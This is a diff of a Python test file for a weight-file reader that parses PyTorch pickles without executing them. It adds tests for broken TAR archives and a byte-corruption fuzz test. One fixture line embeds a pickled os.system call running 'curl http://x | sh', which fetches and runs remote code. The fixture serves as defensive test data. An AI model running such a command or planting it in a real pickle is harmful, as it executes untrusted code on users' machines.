@@ -1,5 +1,6 @@
 """PyTorch's files are read without PyTorch: names, shapes and types, and what a pickle would call."""
 
+import contextlib
 import io
 import pickle
 import pickletools
@@ -7,6 +8,7 @@ import struct
 import subprocess
 import sys
 import zipfile
+from random import Random
 
 import numpy as np
 import pytest
@@ -16,7 +18,20 @@ from datapack.weights.machine import MOST_OPCODES
 from datapack.weights.model import TensorInfo
 from datapack.weights.read import read_weights
 from tests.conftest import PROJECT
-from tests.weights.pickles import Call, Name, Stored, dump, module, ordered, state_dict, tensor, torch_zip, zip_file
+from tests.weights.pickles import (
+    Call,
+    Name,
+    Stored,
+    dump,
+    module,
+    ordered,
+    safetensors,
+    state_dict,
+    tensor,
+    torch_tar,
+    torch_zip,
+    zip_file,
+)
 
 ONE = np.arange(6, dtype=np.float32).reshape(2, 3)
 EVIL = Call(Name("os", "system"), ("curl http://x | sh",))
@@ -295,6 +310,25 @@ def test_storages_that_overlap(tmp_path):
     assert "overlap" in refused(tmp_path, content)
 
 
+ROW = (0, (2, 3), (3, 1), 0)
+TARS = [
+    (torch_tar({"w": Stored("100")}, [ONE], [ROW])[:2500], "a TAR archive of PyTorch without"),
+    (torch_tar({"w": Stored("x")}, [ONE], [ROW]), "no tensor 'x'"),
+    (torch_tar({"w": Stored("101")}, [ONE], [ROW]), "no tensor '101'"),
+    (torch_tar({"w": Stored("100")}, [ONE], [(5, (2, 3), (3, 1), 0)]), "a tensor without its storage"),
+    (torch_tar({"w": Stored("100")}, [ONE], [(0, (2, 4), (3, 1), 0)]), "reaches over the end of its storage"),
+    (torch_tar({"w": Stored("100")}, [ONE], [(0, (2, -3), (3, 1), 0)]), "are no whole numbers"),
+    (torch_tar({"w": Stored("100")}, [ONE], [ROW], [(9, 0, 3, 4)]), "a view that reaches over the end"),
+    (torch_tar({"w": Stored("100")}, [ONE], [ROW], [(9, 8, 0, 1)]), "a view of a storage that is not there"),
+]
+
+
+@pytest.mark.parametrize(("content", "message"), TARS)
+def test_a_broken_archive_of_the_oldest_format(tmp_path, content, message):
+    """Keys, views, shapes and places that lie are one line each."""
+    assert message in refused(tmp_path, content)
+
+
 OTHER = [
     ("m.pth", b"hello", "no file of weights that datapack knows: expected safetensors, PyTorch or ONNX"),
     ("m.pth", b"", "no file of weights that datapack knows"),
@@ -322,6 +356,47 @@ def test_no_regular_file(tmp_path):
     for path in (tmp_path, tmp_path / "fifo.pth", tmp_path / "none.pth"):
         with pytest.raises(WeightsError):
             read_weights(path)
+
+
+def spoiled(content, numbers):
+    """Change, remove or add a few bytes; most of them in the first pickle, if there is one."""
+    changed = bytearray(content)
+    start = max(0, content.find(b"\x80\2"))
+    for _ in range(numbers.choice((1, 1, 2, 5))):
+        at = numbers.randrange(start, min(len(changed), start + 2000))
+        match numbers.randrange(4):
+            case 0:
+                changed[at] = numbers.randrange(256)
+            case 1:
+                del changed[at : at + numbers.choice((1, 2, 8, 100))]
+            case 2:
+                changed[at:at] = numbers.choice(
+                    (b".", b"R", b"b", b"(", b"\x81", b"0", b"2", b"\x86", b"Q", b"e", b"u")
+                )
+            case 3:
+                changed[at:at] = numbers.randbytes(4)
+        if len(changed) <= start:
+            break
+    return bytes(changed)
+
+
+def test_spoiled_files_are_one_line_each(tmp_path):
+    """Whatever happens to a file, the only error is ours: 2,000 changes of sound files of every format."""
+    value, arrays = state_dict()
+    sound = [
+        torch_zip({"model": module("a.B", value), "x": [1, (2.5, "a")], "call": EVIL}, arrays),
+        torch_tar({"w": Stored("100")}, [ONE], [ROW]),
+        b"".join(map(dump, (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}, {"w": tensor("0", ONE)}, ["0"])))
+        + struct.pack("<q", 6)
+        + ONE.tobytes(),
+        safetensors({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8)),
+    ]
+    assert [len(read(tmp_path, content).tensors) for content in sound] == [2, 1, 1, 1]
+    numbers = Random(1)
+    for _ in range(500):
+        for content in sound:
+            with contextlib.suppress(WeightsError):
+                read(tmp_path, spoiled(content, numbers))
 
 
 def test_every_opcode_is_known():
